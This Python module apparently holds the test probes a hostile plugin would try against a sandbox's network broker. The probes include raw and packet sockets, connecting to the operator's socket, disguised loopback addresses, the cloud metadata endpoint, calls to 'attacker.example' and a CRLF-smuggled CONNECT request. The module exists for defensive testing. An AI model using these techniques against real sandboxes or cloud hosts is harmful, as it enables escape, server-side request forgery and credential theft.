"""What a hostile plugin tries on the network, past the broker and through it."""

from __future__ import annotations

import _socket
import errno
import os
import socket
import time

from .calls import Facts

AF_ALG, AF_VSOCK, AF_BLUETOOTH = 38, 40, 31


def _made(family: int, kind: int, protocol: int = 0) -> str:
    made = _socket.socket(family, kind, protocol)
    made.close()
    return "made"


# past the broker


def connect_past_broker(facts: Facts) -> str:
    raw = _socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    raw.connect(("127.0.0.1", int(facts["port"])))
    return "connected"


def connect_past_broker_by_ipv6(_: Facts) -> str:
    return _made(socket.AF_INET6, socket.SOCK_STREAM)


def connect_a_pair_past_broker(facts: Facts) -> str:
    """A pair is allowed; turning one end of it elsewhere must not be."""
    one, _other = _socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    one.connect(f"{facts['home']}/run/operator.sock")
    return "connected to the operator's socket"


def connect_to_operator(facts: Facts) -> str:
    raw = _socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    raw.connect(f"{facts['home']}/run/operator.sock")
    return "connected to the operator's socket"


def connect_to_abstract_socket(facts: Facts) -> str:
    raw = _socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    raw.connect("\0" + facts["abstract"])
    return "connected"


def send_from_a_datagram_pair(facts: Facts) -> str:
    one, _other = _socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    one.sendto(b"approve", f"{facts['home']}/run/datagrams.sock")
    return "sent"


def send_datagram(facts: Facts) -> str:
    raw = _socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    raw.sendto(b"key", ("127.0.0.1", int(facts["udp"])))
    return "sent"


def open_raw_socket(_: Facts) -> str:
    return _made(socket.AF_INET, socket.SOCK_RAW, 1)


def open_packet_socket(_: Facts) -> str:
    return _made(socket.AF_PACKET, socket.SOCK_RAW, 3)


def open_netlink(_: Facts) -> str:
    return _made(socket.AF_NETLINK, socket.SOCK_RAW)


def open_virtual_machine_socket(_: Facts) -> str:
    return _made(AF_VSOCK, socket.SOCK_STREAM)


def open_kernel_crypto(_: Facts) -> str:
    return _made(AF_ALG, socket.SOCK_SEQPACKET)


def open_bluetooth(_: Facts) -> str:
    return _made(AF_BLUETOOTH, socket.SOCK_RAW, 1)


def bind_abstract_socket(_: Facts) -> str:
    raw = _socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    raw.bind(f"\0hostile-{os.getpid()}")
    return "bound"


def listen_in_state_folder(_: Facts) -> str:
    raw = _socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    raw.bind("rendezvous")
    raw.listen()
    return "listening"


def listen_on_a_port(_: Facts) -> str:
    raw = _socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    raw.bind(("127.0.0.1", 0))
    raw.listen()
    return "listening"


# through the broker


def reach_another_host(_: Facts) -> str:
    socket.create_connection(("attacker.example", 443), timeout=5)
    return "connected"


def reach_another_port(facts: Facts) -> str:
    socket.create_connection(("127.0.0.1", int(facts["other_port"])), timeout=5)
    return "connected"


def reach_loopback_by_another_name(facts: Facts) -> str:
    """The address was granted, the name was not; a name leads wherever its owner likes."""
    socket.create_connection(("localhost", int(facts["port"])), timeout=5)
    return "connected"


def reach_loopback_by_another_address(facts: Facts) -> str:
    socket.create_connection(("127.0.0.2", int(facts["port"])), timeout=5)
    return "connected"


def reach_loopback_by_ipv6(facts: Facts) -> str:
    socket.create_connection(("::1", int(facts["port"])), timeout=5)
    return "connected"


def reach_loopback_inside_ipv6(facts: Facts) -> str:
    socket.create_connection(("::ffff:127.0.0.1", int(facts["port"])), timeout=5)
    return "connected"


def reach_loopback_in_octal(facts: Facts) -> str:
    socket.create_connection(("0177.0.0.1", int(facts["port"])), timeout=5)
    return "connected"


def reach_loopback_as_a_number(facts: Facts) -> str:
    socket.create_connection(("2130706433", int(facts["port"])), timeout=5)
    return "connected"


def reach_loopback_behind_a_public_name(facts: Facts) -> str:
    """Granted, but not as a private host: what the name leads to is looked at when it is connected to."""
    socket.create_connection(("localhost", int(facts["other_port"])), timeout=5)
    return "connected"


def reach_metadata_service(_: Facts) -> str:
    socket.create_connection(("169.254.169.254", 80), timeout=5)
    return "connected"


def reach_metadata_service_by_name(_: Facts) -> str:
    socket.create_connection(("metadata.google.internal", 80), timeout=5)
    return "connected"


def smuggle_a_second_target(facts: Facts) -> str:
    """A host with a line end in it: two requests where the broker looks at one."""
    smuggled = f"127.0.0.1:{facts['port']} HTTP/1.1\r\n\r\nCONNECT attacker.example"
    socket.create_connection((smuggled, 443), timeout=5)
    return "connected"


def hold_a_request_half_open(facts: Facts) -> str:
    """Begin a request and never end it: the broker keeps a pipe for somebody who asks for nothing."""
    from appliance.plugin_host.worker import pipes, sockets

    began = time.monotonic()
    with sockets._network().channel.pipe(pipes.Deadline(None)) as pipe:
        pipe.sendall(f"CONNECT 127.0.0.1:{facts['port']} HTTP".encode())
        pipe.settimeout(8)
        answer = pipe.recv(4096)
        ended = answer.startswith(b"HTTP/1.1 408 ") and not pipe.recv(1)
    if ended:
        raise TimeoutError(errno.ETIMEDOUT, answer.splitlines()[-1].decode())
    return f"held for {time.monotonic() - began:.0f} s"
